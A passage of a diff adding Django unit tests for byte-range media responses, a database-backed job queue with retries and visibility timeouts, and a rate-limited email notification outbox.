+                self.assertEqual(response['Content-Length'], str(len(content)))
+
+    def test_unsatisfiable_ranges(self):
+        for header in ('bytes=-0', 'bytes=10-', 'bytes=5-2', 'bytes=0-1,4-5', 'lines=1-2'):
+            with self.subTest(header=header):
+                response = self.get(range=header)
+                self.assertEqual(response.status_code, 416)
+                self.assertEqual(response['Content-Range'], 'bytes */10')
+
+    @override_settings(MEDIA_ACCEL_REDIRECT_PREFIX='/protected-media/')
+    def test_nginx_sends_the_bytes_when_configured(self):
+        response = self.get()
+        self.assertEqual(response['X-Accel-Redirect'], f'/protected-media/{self.name}')
+        self.assertEqual(response.content, b'')
+
+
+class JobQueueTests(AppTestCase):
+    def setUp(self):
+        super().setUp()
+        tasks = mock.patch.dict(TASKS)
+        tasks.start()
+        self.addCleanup(tasks.stop)
+        self.work = mock.Mock()
+        task('tests.work', max_attempts=3, timeout=60)(self.work)
+
+    def test_due_jobs_are_claimed_by_priority_once(self):
+        low = enqueue('tests.work', {'n': 1})
+        high = enqueue('tests.work', {'n': 2}, priority=5)
+        enqueue('tests.work', {'n': 3}, delay=timedelta(minutes=5))
+        claimed = claim_jobs('worker-1')
+        self.assertEqual([job.pk for job in claimed], [high.pk, low.pk])
+        self.assertEqual({(job.status, job.attempts, job.locked_by) for job in claimed}, {('running', 1, 'worker-1')})
+        self.assertEqual(claim_jobs('worker-2'), [])
+
+    def test_unique_jobs_are_queued_once(self):
+        self.assertIsNotNone(enqueue('tests.work', {'n': 1}, unique=True))
+        self.assertIsNone(enqueue('tests.work', {'n': 1}, unique=True))
+        self.assertEqual(Job.objects.count(), 1)
+
+    def test_expired_visibility_timeout_hands_the_job_to_another_worker(self):
+        enqueue('tests.work')
+        [stalled] = claim_jobs('worker-1')
+        Job.objects.filter(pk=stalled.pk).update(locked_until=timezone.now() - timedelta(seconds=1))
+        [taken] = claim_jobs('worker-2')
+        self.assertEqual((taken.pk, taken.attempts), (stalled.pk, 2))
+        # The stalled worker's late result no longer applies
+        run_job(stalled)
+        self.assertEqual(Job.objects.get().locked_by, 'worker-2')
+        self.assertTrue(run_job(taken))
+        self.assertEqual(Job.objects.get().status, 'done')
+
+    def test_timeout_on_the_last_attempt_fails_the_job(self):
+        job = enqueue('tests.work')
+        Job.objects.filter(pk=job.pk).update(
+            status='running', attempts=3, locked_until=timezone.now() - timedelta(seconds=1)
+        )
+        self.assertEqual(claim_jobs('worker-1'), [])
+        job.refresh_from_db()
+        self.assertEqual(job.status, 'failed')
+        self.assertIn('Timed out', job.last_error)
+
+    def test_failures_are_retried_with_backoff_then_fail(self):
+        self.work.side_effect = ValueError('boom')
+        enqueue('tests.work', {'n': 1})
+        with self.assertLogs('app.jobs', 'WARNING') as logs:
+            for attempt in (1, 2):
+                [job] = claim_jobs('worker-1')
+                before = timezone.now()
+                self.assertFalse(run_job(job))
+                job.refresh_from_db()
+                self.assertEqual((job.status, job.attempts), ('queued', attempt))
+                self.assertIn('ValueError: boom', job.last_error)
+                delay = (job.run_at - before).total_seconds()
+                self.assertTrue(15 * 2 ** (attempt - 1) - 1 <= delay <= 30 * 2 ** (attempt - 1), delay)
+                Job.objects.filter(pk=job.pk).update(run_at=timezone.now())
+            [job] = claim_jobs('worker-1')
+            self.assertFalse(run_job(job))
+        job.refresh_from_db()
+        self.assertEqual((job.status, job.attempts), ('failed', 3))
+        self.work.assert_called_with(n=1)
+        self.assertIn('failed for good', logs.output[-1])
+
+    def test_retry_delay_is_capped(self):
+        self.assertLessEqual(retry_delay(30), timedelta(seconds=RETRY_MAX_SECONDS))
+
+    def test_released_jobs_do_not_use_up_an_attempt(self):
+        enqueue('tests.work')
+        [job] = claim_jobs('worker-1')
+        release_job(job)
+        job.refresh_from_db()
+        self.assertEqual((job.status, job.attempts), ('queued', 0))
+
+
+@override_settings(NOTIFICATION_RATE_PER_MINUTE=0, NOTIFICATION_MAX_ATTEMPTS=2)
+class NotificationOutboxTests(AppTestCase):
+    def queue(self, *recipients):
+        for recipient in recipients:
+            Notification.objects.create(kind='inquiry_received', recipient=recipient, subject='Hello', body='Thanks')
+
+    def failing_send(self, error, recipient):
+        def send_messages(backend, messages):
+            if messages[0].to == [recipient]:
+                raise error
+            mail.outbox.extend(messages)
+            return len(messages)
+        return mock.patch(
+            'django.core.mail.backends.locmem.EmailBackend.send_messages', autospec=True, side_effect=send_messages
+        )
+
+    def test_each_batch_shares_one_connection(self):
+        self.queue(*[f'person{number}@example.com' for number in range(5)])
+        with mock.patch('app.notifications.get_connection', wraps=mail.get_connection) as get_connection:
+            self.assertEqual(send_pending(batch_size=2), (5, 0))
+        self.assertEqual(get_connection.call_count, 3)
+        self.assertEqual(len(mail.outbox), 5)
+        self.assertFalse(Notification.objects.exclude(status='sent').exists())
+
+    def test_limit_bounds_one_run(self):
+        self.queue('a@example.com', 'b@example.com', 'c@example.com')
+        self.assertEqual(send_pending(batch_size=2, limit=2), (2, 0))
+        self.assertEqual(Notification.objects.filter(status='pending').count(), 1)
+
+    def test_sends_are_spaced_to_the_rate_limit(self):
+        self.queue('a@example.com', 'b@example.com', 'c@example.com')
+        with mock.patch('app.notifications.time') as clock:
+            clock.monotonic.return_value = 100.0
+            send_pending(per_minute=30)
+        self.assertEqual(clock.sleep.call_args_list, [mock.call(2.0), mock.call(4.0)])
+
+    def test_rate_limiter_waits_only_when_ahead(self):
+        with mock.patch('app.notifications.time') as clock:
+            limiter = RateLimiter(60)
+            for now in (10.0, 10.5, 20.0):
+                clock.monotonic.return_value = now
+                limiter.wait()
+        self.assertEqual(clock.sleep.call_args_list, [mock.call(0.5)])
+
+    def test_refused_message_is_retried_later_then_given_up(self):
+        self.queue('good@example.com', 'bad@example.com')
+        refused = smtplib.SMTPRecipientsRefused({'bad@example.com': (550, b'No such user')})
+        with self.failing_send(refused, 'bad@example.com'):
+            self.assertEqual(send_pending(), (1, 1))
+            bad = Notification.objects.get(recipient='bad@example.com')
+            self.assertEqual((bad.status, bad.attempts), ('pending', 1))
+            self.assertGreater(bad.next_attempt_at, timezone.now())
+            # Not due yet
+            self.assertEqual(send_pending(), (0, 0))
+            Notification.objects.filter(pk=bad.pk).update(next_attempt_at=timezone.now())
+            with self.assertLogs('app.notifications', 'ERROR'):
+                self.assertEqual(send_pending(), (0, 1))
+        bad.refresh_from_db()
+        self.assertEqual((bad.status, bad.attempts), ('failed', 2))
+
+    def test_connection_failure_puts_the_rest_back_without_an_attempt(self):
+        self.queue('first@example.com', 'second@example.com', 'third@example.com')
+        with self.failing_send(smtplib.SMTPServerDisconnected('gone'), 'second@example.com'):
+            with self.assertLogs('app.notifications', 'WARNING'):
+                self.assertEqual(send_pending(), (1, 0))
+        self.assertEqual(Notification.objects.get(recipient='first@example.com').status, 'sent')
+        waiting = Notification.objects.exclude(recipient='first@example.com')
+        self.assertEqual({(n.status, n.attempts) for n in waiting}, {('pending', 0)})
+        self.assertTrue(all(n.next_attempt_at > timezone.now() for n in waiting))
+
+    def test_flush_schedules_another_for_what_is_left(self):
+        self.queue('bad@example.com')
+        refused = smtplib.SMTPRecipientsRefused({'bad@example.com': (550, b'No such user')})
+        with self.failing_send(refused, 'bad@example.com'):
+            self.assertEqual(flush_outbox(), (0, 1))
+        flush = Job.objects.get(task='notifications.flush')
+        self.assertGreaterEqual(flush.run_at, Notification.objects.get().next_attempt_at)